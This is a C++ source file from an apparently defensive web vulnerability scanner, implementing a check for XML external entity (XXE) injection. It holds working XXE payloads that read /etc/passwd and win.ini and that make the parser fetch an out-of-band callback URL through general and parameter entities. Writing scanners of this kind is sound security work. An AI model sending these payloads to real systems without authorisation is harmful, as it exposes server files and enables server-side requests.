// xxe.external_entity: XML documents that declare an external entity, sent where XML is parsed:
// a parameter that carries XML, or the whole body of an endpoint that may take it (XmlBody
// inputs: the crawler adds them for XML-looking names and types and for pages that refuse GET).
// Proof is a local file's content in the response, or, for a parser that does not echo,
// a fetch of our out-of-band callback URL (general and parameter entities).
#include <cstring>

#include "ctc/scanner/checks/active/response_signatures.hpp"
#include "families.hpp"
#include "probe_text.hpp"

namespace ctc::scanner {
namespace {

std::string withEntity(const std::string& systemId) {
  return "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY ctc SYSTEM \"" + systemId +
         "\">]><r>&ctc;</r>";
}

class XxeCheck final : public ActiveCheck {
 public:
  bool wants(const InsertionPoint& point) const override {
    if (point.kind == InputKind::XmlBody) return true;
    return point.isParameter() && ((!point.value.empty() && point.value.front() == '<') ||
                                   strcasestr(point.name.c_str(), "xml") != nullptr);
  }

  void start(Attack& a) const override {
    sendInTurn(a, {withEntity("file:///etc/passwd"), withEntity("file:///c:/windows/win.ini")},
               "xxe.external_entity", [&a](const FetchResult& r) {
                 auto m = findFileContent(r.response.body);
                 if (!m || findFileContent(a.baseline().body)) return std::string();
                 return "contents of " + m->what + " through an external entity: " + m->excerpt;
               });
    if (!a.options().outOfBand) return;
    auto [general, generalUrl] = a.options().outOfBand->newCallback();
    auto [parameter, parameterUrl] = a.options().outOfBand->newCallback();
    for (const auto& [token, document] :
         {std::pair{general, withEntity(generalUrl)},
          std::pair{parameter, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % ctc SYSTEM \"" +
                                   parameterUrl + "\"> %ctc;]><r>1</r>"}}) {
      HttpRequest request = a.target().with(document);
      a.callbacks.emplace_back(token, request);
      a.send("xxe.external_entity", request, [](const FetchResult&) {});
    }
  }

  void finish(Attack& a) const override {
    for (const auto& [token, request] : a.callbacks)
      if (auto hits = a.options().outOfBand->hits(token); !hits.empty()) {
        a.report("xxe.external_entity", request,
                 "the XML parser fetched the external entity's URL (out of band): " + hits.front());
        return;
      }
  }
};

}  // namespace

std::unique_ptr<ActiveCheck> makeXxeCheck() {
  return std::make_unique<XxeCheck>();
}

}  // namespace ctc::scanner
